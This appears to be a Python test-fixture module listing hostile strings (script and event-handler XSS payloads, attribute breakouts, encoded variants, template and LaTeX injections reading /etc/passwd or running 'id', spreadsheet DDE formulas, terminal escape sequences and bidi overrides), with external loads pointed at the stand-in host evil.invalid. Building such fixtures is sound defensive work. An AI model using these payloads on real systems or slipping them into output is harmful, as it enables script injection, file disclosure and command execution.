"""Strings that a model, a data set or a stranger's recipe may hold, each of which some reader would obey if it were let.

`MARK` stands in what would be fetched, so that a request shows where it came from; nothing of that name exists.
"""

from collections.abc import Sequence

MARK = "evil.invalid"

TAGS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.invalid/a.js></SCRIPT>",
    "<script type=module>import('//evil.invalid/b.js')</script>",
    "<scr<script>ipt>alert(2)</scr</script>ipt>",
    "<img src=x onerror=alert(3)>",
    "<img src=//evil.invalid/c.png>",
    "<img/src=`x`/onerror=alert(4)>",
    "<svg onload=alert(5)>",
    "<svg><script href=//evil.invalid/d.js /></svg>",
    "<svg><animate onbegin=alert(6) attributeName=x dur=1s></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(7)>#x'/></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(8)></style></mglyph></table></mtext></math>",
    "<body onload=alert(9)>",
    "<body onpageshow=alert(10)>",
    "<iframe src=javascript:alert(11)></iframe>",
    "<iframe srcdoc='<script>parent.alert(12)</script>'></iframe>",
    "<object data=//evil.invalid/e.swf></object>",
    "<embed src=//evil.invalid/f.svg>",
    "<link rel=stylesheet href=//evil.invalid/g.css>",
    "<style>@import '//evil.invalid/h.css';</style>",
    "<style>*{background:url(//evil.invalid/i.png)}</style>",
    "<base href=//evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/j'>",
    "<form action=//evil.invalid><button autofocus onfocus=alert(13)>go</button></form>",
    "<input autofocus onfocus=alert(14)>",
    "<details open ontoggle=alert(15)>more</details>",
    "<video><source onerror=alert(16)></video>",
    "<audio src=//evil.invalid/k.mp3 onerror=alert(17)>",
    "<marquee onstart=alert(18)>text</marquee>",
    "<template shadowrootmode=open><script>alert(19)</script></template>",
    "<portal src=//evil.invalid></portal><dialog open onclose=alert(20)>",
    "<a href=javascript:alert(21)>link</a>",
    "<a href='java\tscript:alert(22)'>link</a>",
    "<a href=//evil.invalid ping=//evil.invalid/l>link</a>",
)
BREAKS = (
    '" onmouseover="alert(23)" x="',
    "' onmouseover='alert(24)' x='",
    "` onmouseover=alert(25) ",
    '"><script>alert(26)</script>',
    "'><img src=x onerror=alert(27)>",
    "</title><script>alert(28)</script>",
    "</style><script>alert(29)</script>",
    "</pre></td></table></div></main><script>alert(30)</script>",
    "</script><script>alert(31)</script>",
    "</textarea><script>alert(32)</script>",
    "--><script>alert(33)</script><!--",
    "<!--><img src=x onerror=alert(34)>-->",
    "]]><script>alert(35)</script><![CDATA[",
    "<?xml-stylesheet href='//evil.invalid/m.xsl'?>",
    "100%; background:url(//evil.invalid/n.png)",
    '#results" onclick="alert(36)',
)
ENCODINGS = (
    "&lt;script&gt;alert(37)&lt;/script&gt;",
    "&#60;script&#62;alert(38)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(39)&#x3e;",
    "%3Cscript%3Ealert(40)%3C/script%3E",
    "+ADw-script+AD4-alert(41)+ADw-/script+AD4-",
    "\\u003cscript\\u003ealert(42)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(43)\uff1c/script\uff1e",
    "\u2028<script>alert(44)</script>\u2029",
    "\x00<scr\x00ipt>alert(45)</scr\x00ipt>",
    "\ufeff<script>alert(46)</script>",
    "\ud83d<script>alert(47)</script>",
)
LANGUAGES = (
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% include '/etc/passwd' %}{# #}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "[link](javascript:alert(48)) ![image](//evil.invalid/o.png)",
    "<u>under</u> **bold** `code` |cell| # head",
    '[ref]: //evil.invalid/p "title"',
    "\\input{/etc/passwd}\\write18{id}^^5cinput",
    "$\\def\\x{\\x\\x}\\x$ & % # _ { } ~ ^",
    '=HYPERLINK("//evil.invalid","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "[bold red]rich[/bold red] [link=//evil.invalid]x[/link] [/]",
)
ESCAPES = (
    "\x1b[31mred\x1b[0m\x1b[2J\x1b[1;1H",
    "\x1b]0;title\x07\x1b]8;;//evil.invalid\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;ZWNobyBoaQ==\x07\x9b31m",
    "\x1bP+q544e\x1b\\\x1b_Gf=24;AAAA\x1b\\",
    "over\rwritten\x08\x08\x7f",
    "\u202e\u2066reversed\u2069\u202c",
)
HOSTILE = TAGS + BREAKS + ENCODINGS + LANGUAGES + ESCAPES


def batches(size: int) -> list[Sequence[str]]:
    """The strings, a given number at a time."""
    return [HOSTILE[start : start + size] for start in range(0, len(HOSTILE), size)]
